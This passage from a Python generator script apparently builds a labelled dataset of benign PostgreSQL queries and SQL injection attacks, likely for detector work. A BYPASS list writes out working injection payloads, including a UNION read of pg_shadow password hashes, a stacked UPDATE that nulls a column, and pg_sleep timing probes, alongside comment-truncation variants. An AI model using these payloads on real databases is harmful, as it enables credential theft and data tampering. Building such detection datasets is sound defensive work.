                      ("int4multirange", ["'{[1,3), [5,8)}'"]), ("bit varying(8)", ["'10101'"]), ("regtype", ["'int4'"]), ("regproc", ["'now'"]), ("xml", ["'<a>1</a>'"])]:
        for v in vals:
            add(typ.split("(")[0].split(" ")[0], "SELECT %s::%s" % (v, typ))
            if r.random() < 0.3 and "(" not in typ:
                add(typ, "SELECT pg_typeof(%s::%s), %s::%s IS NOT NULL" % (v, typ, v, typ))
    for _ in range(30):
        a, b = r.randint(-90000, 90000), r.randint(1, 500)
        t = r.choice(["int4", "int8", "numeric", "float8"])
        add(t, "SELECT %d::%s %s %d::%s AS result" % (a, t, r.choice(["+", "-", "*", "/", "%", ">=", "<", "<>", "="]), b, t))
    for _ in range(25):
        s = r.choice(["tempering", "Weißbier", "a.b.c", "Regress13", "kite", "Ñandú ñu"])
        add("strings", r.choice(["SELECT rpad('%s', %d, '-')" % (s, r.randint(1, 25)), "SELECT substring('%s' from %d for %d)" % (s, r.randint(1, 4), r.randint(1, 6)),
                                 "SELECT position('%s' in '%s')" % (s[1:3], s), "SELECT lower('%s'), length('%s')" % (s, s),
                                 "SELECT split_part('%s', '.', %d)" % (s, r.randint(1, 3)), "SELECT overlay('%s' placing 'XX' from %d)" % (s, r.randint(1, 4)),
                                 "SELECT reverse('%s'), md5('%s')" % (s, s)]))
    for _ in range(25):
        add("horology", r.choice(["SELECT age(date '%s', date '%s')" % (rdate(r), rdate(r, 1980, 2000)),
                                  "SELECT date_bin('%d minutes', timestamp '%s 10:%02d:00', timestamp '2000-01-01')" % (r.choice([5, 10, 15]), rdate(r), r.randint(0, 59)),
                                  "SELECT date_trunc('%s', timestamp '%s 12:34:56')" % (r.choice(["hour", "quarter", "decade", "millennium"]), rdate(r)),
                                  "SELECT to_char(timestamp '%s 18:09:00', '%s')" % (rdate(r), r.choice(["HH12:MI AM", "Dy, DD Mon YYYY", "WW", "J", "TZ"])),
                                  "SELECT (date '%s', date '%s') OVERLAPS (date '%s', date '%s')" % (rdate(r, 2020, 2021), rdate(r, 2022, 2023), rdate(r, 2021, 2022), rdate(r, 2024, 2025))]))
    for _ in range(15):
        add("select", "SELECT unique1, two, four FROM onek WHERE %s ORDER BY %s LIMIT %d OFFSET %d" % (
            r.choice(["four = %d" % r.randint(0, 3), "unique1 BETWEEN %d AND %d" % (r.randint(0, 400), r.randint(401, 999)), "stringu1 LIKE '%s%%'" % rword(r, 2, True), "two <> %d" % r.randint(0, 1)]),
            r.choice(["unique1 DESC", "four, unique1", "two USING <"]), r.randint(1, 20), r.randint(0, 10)))
    for _ in range(12):
        add("arrays", r.choice(["SELECT array_position(ARRAY[%s], %d)" % (", ".join(str(r.randint(0, 9)) for _ in range(6)), r.randint(0, 9)),
                                "SELECT ARRAY[%d, %d] <@ ARRAY[%d, %d, %d]" % tuple(r.randint(0, 6) for _ in range(5)),
                                "SELECT array_to_string(ARRAY[%d, NULL, %d], ',', '?')" % (r.randint(0, 99), r.randint(0, 99))]))
    for _ in range(10):
        lo, hi = sorted(r.sample(range(0, 300), 2))
        add("rangetypes", r.choice(["SELECT int4range(%d, %d) * int4range(%d, %d)" % (lo, hi, (lo + hi) // 2, hi + r.randint(1, 30)),
                                    "SELECT numrange(%d.5, %d.5) -|- numrange(%d.5, %d)" % (lo, hi, hi, hi + 5), "SELECT isempty(int4range(%d, %d, '()'))" % (lo, lo + 1)]))
    for _ in range(10):
        add("window", "SELECT ten, %s OVER (ORDER BY ten %s) FROM tenk1 WHERE unique2 < %d" % (
            r.choice(["lag(ten, 2)", "first_value(ten)", "dense_rank()", "avg(ten)"]), r.choice(["ROWS BETWEEN 2 PRECEDING AND CURRENT ROW", "GROUPS 1 PRECEDING", "RANGE BETWEEN CURRENT ROW AND UNBOUNDED FOLLOWING"]), r.randint(5, 40)))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "plpgsql_do_exec", "e_escape", "sqlmap"]
KIND_FAMILY = {"date": "input_formatted", "ts": "input_formatted", "interval": "input_formatted", "regex": "input_formatted", "like": "input_formatted",
               "unit": "input_plain", "arr": "input_plain", "json": "input_json_text"}
# the application escapes quotes the wrong way for its literal
BYPASS = [("std_string_addslashes", "t13_dbi_forge_orders", "a", "Hartley Farm' OR 2>1 -- ", addslashes),
          ("e_string_quote_doubling", "t13_nodepg_setter_bio", "b", "\\'; UPDATE crossword_setters SET bio = NULL; -- ", double_quotes),
          ("std_string_addslashes", "t13_nextjdbc_snail_pens", "b", "Cornu aspersum' UNION SELECT 1, passwd, 2 FROM pg_shadow -- ", addslashes),
          ("e_string_quote_doubling", "t13_mybatis_mount_quote", "b", "\\' || (SELECT pg_sleep(6)) || \\'", double_quotes),
          ("std_string_addslashes", "t13_rdbi_ribbon_stock", "a", "silk') OR ribbon_type IS NOT NULL -- ", addslashes),
          ("std_string_addslashes", "t13_sqla_kite_specs", "a", "HQ Kites' AND 1=(SELECT 1 FROM pg_sleep(4)) -- ", addslashes)]


def truncation_style(r):
    """(name, comment) cutting off the rest of the statement."""
    return r.choice([("dashdash", "--"), ("dashdash_bang", "--!"), ("dashdash_space_x", "-- x"), ("semicolon_dashdash_space", "; -- "),
                     ("block_open_star", "/**"), ("dashdash_dash", "-- -"), ("dashdash_quote", "--'"),
                     ("empty_block_then_dashdash", "/* */--"), ("dashdash_dashdash", "----"), ("semicolon_block_open", ";/*"), ("dashdash_plus", "--+")])


TRUNCATION = {"style": truncation_style, "origs": ["admin", "", "guest", "x"], "spaces": ["", " ", "\t"]}


def numeric_value(r):
    return r.choice([str(r.randint(0, 9999)), str(r.randint(1, 60)), "%d.%02d" % (r.randint(0, 500), r.randint(0, 99)),
                     "%.4f" % r.uniform(0, 3), str(r.randint(10 ** 6, 10 ** 10)), "0", "-%d" % r.randint(1, 99), "%de%d" % (r.randint(1, 9), r.randint(1, 3))])


def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number as a LIMIT, OFFSET, FETCH or MOVE count."""
    si = slot_info(tpl, slot)
    return (si["in_limit"] or si["lead"] in ("FETCH", "MOVE")) and (val.startswith("-") or "." in val or "e" in val or len(val) > 6)


def formatted_value(r):
    return r.choice(["%s/%05d" % (rword(r, 2, upper=True), r.randint(0, 99999)), "%010X" % r.getrandbits(40),
                     "+44 %04d %06d" % (r.randint(0, 9999), r.randint(0, 999999)), "%016x" % r.getrandbits(64),
                     "%d.%d.%d" % (r.randint(0, 9), r.randint(0, 30), r.randint(0, 99)), "%02d/%02d/%d" % (r.randint(1, 12), r.randint(1, 28), r.randint(2018, 2028)),
                     "KT-%03d-%s" % (r.randint(0, 999), rword(r, 1, upper=True)), "%d×%d cm" % (r.randint(10, 200), r.randint(10, 200))])


def input_value(r, fam, groups):
    """(template, slot, value) of one benign input of family fam, or None."""
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " , "], 99999, 6, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.45:
        return typed_input(r, kinds, fam, typed_value)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.4, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "t13-%06d", "thirteenth")


if __name__ == "__main__":
    main()
